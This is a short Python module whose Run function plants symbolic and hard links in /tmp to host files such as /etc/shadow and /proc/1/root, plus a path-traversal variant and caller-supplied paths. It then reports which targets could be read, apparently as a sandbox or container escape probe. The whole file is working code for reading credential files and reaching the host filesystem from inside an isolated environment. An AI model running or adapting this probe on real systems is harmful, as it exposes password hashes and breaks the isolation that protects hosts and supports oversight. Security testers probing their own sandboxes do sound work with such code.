"""Plants links to the host's files where a host might follow them; answers with what can be read through one."""
import os


def Run(engine):
    found = []
    for n, target in enumerate(["/etc/shadow", "/proc/1/root", "/proc/1/cwd", "../../../../etc/shadow", *engine.body.split()]):
        link = f"/tmp/link-{n}"
        os.symlink(target, link)
        try:
            found += [target] if (os.listdir(link) if os.path.isdir(link) else open(link, "rb").read()) else []
        except OSError:
            pass
        try:
            os.link(target, f"/tmp/hard-{n}")
            found.append(target)
        except OSError:
            pass
    return [path for path in found if path not in ("/proc/1/root", "/proc/1/cwd")]
